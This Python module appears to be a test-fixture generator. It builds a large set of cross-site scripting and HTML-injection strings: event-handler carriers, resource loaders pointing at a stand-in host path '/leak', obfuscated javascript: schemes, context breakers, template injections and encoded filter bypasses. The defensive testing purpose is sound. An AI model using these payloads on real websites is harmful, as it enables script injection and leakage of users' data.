"""Script and markup strings of our own making, by rule: each tag, event, link and template once.

Every string that ran would set ``window.hit``, and every one that loaded would ask another origin.
"""

from __future__ import annotations

from collections.abc import Iterator, Sequence

FOREIGN = "http://198.51.100.1"
RUN = "window.hit=1"

_EVENTS = [
    "onload",
    "onerror",
    "onclick",
    "onfocus",
    "onfocusin",
    "onblur",
    "onmouseover",
    "onmouseenter",
    "onpointerover",
    "onpointerenter",
    "onanimationstart",
    "onanimationend",
    "ontransitionend",
    "ontoggle",
    "onscroll",
    "onwheel",
    "onkeydown",
    "onkeyup",
    "oninput",
    "onchange",
    "onsubmit",
    "onreset",
    "oncopy",
    "onpaste",
    "onbegin",
    "onend",
    "oncanplay",
    "onloadstart",
    "onplay",
    "onresize",
    "onhashchange",
    "onpageshow",
    "onbeforetoggle",
    "onscrollend",
]
_CARRIERS = (
    "<img src=x {0}>",
    "<svg {0} tabindex=1 autofocus>",
    "<details open {0}>x</details>",
    "<input autofocus {0}>",
    '"{0} autofocus tabindex=1 x="',
    "' {0} autofocus x='",
)
_LOADERS = (
    '<img src="{0}">',
    "<img srcset={0}>",
    "<picture><source srcset='{0}'><img></picture>",
    '<link rel=stylesheet href="{0}">',
    "<link rel=preload as=image href={0}>",
    "<link rel=prefetch href={0}>",
    "<script src={0}></script>",
    "<script type=module src='{0}'></script>",
    '<iframe src="{0}"></iframe>',
    "<object data={0}></object>",
    "<embed src={0}>",
    "<video src={0} autoplay></video>",
    "<video poster='{0}'></video>",
    "<audio src={0}></audio>",
    "<track src={0}>",
    "<body background={0}>",
    "<table background='{0}'><td>x</table>",
    "<input type=image src={0}>",
    "<svg><image href='{0}'/></svg>",
    "<svg><use href='{0}#x'/></svg>",
    "<svg><feImage href='{0}'/></svg>",
    "<style>@import '{0}';</style>",
    "<style>body{{background:url({0})}}</style>",
    "<p style='background-image:url({0})'>x</p>",
    "<meta http-equiv=refresh content='0;url={0}'>",
    "<base href='{0}/'>",
    "<form action={0}><button autofocus>x</button></form>",
    "<button formaction={0}>x</button>",
    "<a ping={0} href='#x'>x</a>",
    "<frameset><frame src={0}></frameset>",
    "![image]({0})",
    "![image]( {0} 'title')",
    "[![image]({0})]({0})",
    "[link]({0})",
    "<{0}>",
    "[ref]: {0}",
    "| ![a]({0}) |",
)
_SCHEMES = (
    "javascript:{0}",
    "JaVaScRiPt:{0}",
    "java\tscript:{0}",
    "java&#10;script:{0}",
    "&#106;avascript:{0}",
    "\x01javascript:{0}",
    "javascript&colon;{0}",
    "vbscript:{0}",
    "data:text/html,<script>{0}</script>",
    "data:image/svg+xml,<svg onload={0}>",
    '#x" onfocus="{0}',
    "#x' autofocus onfocus='{0}",
)
_LINKS = (
    "[x]({0})",
    '<a href="{0}">x</a>',
    "<a href='{0}' autofocus>x</a>",
    '<iframe src="{0}"></iframe>',
    "<form action='{0}'><input type=submit></form>",
    "<svg><a xlink:href='{0}'><text>x</text></a></svg>",
    "**[x]({0})**",
)
_BREAKERS = (
    "</p>",
    "</div>",
    "</textarea>",
    "</template>",
    "</title>",
    "</style>",
    "</script>",
    "</pre>",
    "</mark>",
    "</select>",
    "</option>",
    "</table>",
    "</noscript>",
    "-->",
    "]]>",
    '">',
    "'>",
    "`>",
    "\ue0000\ue001",
    "\x00",
    "\u2028",
    "\u202e",
    "<!--",
    "<![CDATA[",
    "<math><mtext>",
    "<svg><style>",
    '<noscript><p title="</noscript>',
    "<select><option>",
    "<table><td>",
    "<frameset>",
)
_SCRIPTS = ("<script>{0}</script>", "<img src=x onerror={0}>", "<svg/onload={0}>")
_TEMPLATES = (
    "${{{0}}}",
    "{{{{{0}}}}}",
    "{{{{constructor.constructor('{0}')()}}}}",
    "<%= {0} %>",
    "#{{{0}}}",
    "`${{{0}}}`",
    "{{{{{{{0}}}}}}}",
    "{{% {0} %}}",
    "[[{0}]]",
    "{{{{#with this}}}}{0}{{{{/with}}}}",
    "${{(() => {{{0}}})()}}",
    "{{@html '<img src=x onerror={0}>'}}",
    "{{#if {0}}}x{{/if}}",
)
_ENCODED = (
    "&lt;img src=x onerror={0}&gt;",
    "&#60;script&#62;{0}&#60;/script&#62;",
    "%3Cscript%3E{0}%3C/script%3E",
    "\\u003cscript\\u003e{0}",
    "\uff1cscript\uff1e{0}\uff1c/script\uff1e",
    "<scr<script>ipt>{0}</script>",
    "<ScRiPt >{0}</sCrIpT >",
    "<script\n>{0}</script\n>",
    "<img/src=x/onerror={0}//",
    "<img src=x onerror\n={0}>",
    "<<script>{0}//<</script>",
    "<svg><script>{0}</script></svg>",
    "<svg><animate onbegin={0} attributeName=x dur=1s>",
    "<svg><set attributeName=onload to={0}>",
    "<math href='javascript:{0}'>x</math>",
    "<isindex type=image src=1 onerror={0}>",
    "<x contenteditable onfocus={0} autofocus tabindex=1>",
    "<iframe srcdoc='<script>parent.{0}</script>'></iframe>",
    "<object data='data:text/html,<script>{0}</script>'>",
    "<dialog open onclose={0}><form method=dialog><button>x</button></form></dialog>",
    "<div popover id=p onbeforetoggle={0}>x</div><button popovertarget=p>x</button>",
    "<template shadowrootmode=open><script>{0}</script></template>",
    "<marquee onstart={0}>x</marquee>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<style>*{{display:none}}</style>",
    "<p id=peek class=now data-cite=t1-1 data-do=again data-errand=take data-href=/x>x</p>",
)


def _made() -> Iterator[str]:
    for number, event in enumerate(_EVENTS):
        for carrier in (_CARRIERS[number % 6], _CARRIERS[(number + 3) % 6]):
            yield carrier.format(f"{event}={RUN}")
    for loader in _LOADERS:
        yield loader.format(f"{FOREIGN}/leak")
        yield loader.format("//198.51.100.1/leak")
    for scheme in _SCHEMES:
        for link in _LINKS:
            yield link.format(scheme.format(RUN))
    for breaker in _BREAKERS:
        for script in _SCRIPTS:
            yield breaker + script.format(RUN)
    for form in (*_TEMPLATES, *_ENCODED):
        yield form.format(RUN)


STRINGS: Sequence[str] = tuple(dict.fromkeys(_made()))


def packed(most: int) -> list[str]:
    """Returns all the strings, joined into texts of at most ``most`` characters on one line."""
    texts = [""]
    for string in (" ".join(each.split()) for each in STRINGS):
        if texts[-1] and len(texts[-1]) + len(string) + 1 > most:
            texts.append("")
        texts[-1] = f"{texts[-1]} {string}".strip()
    return texts
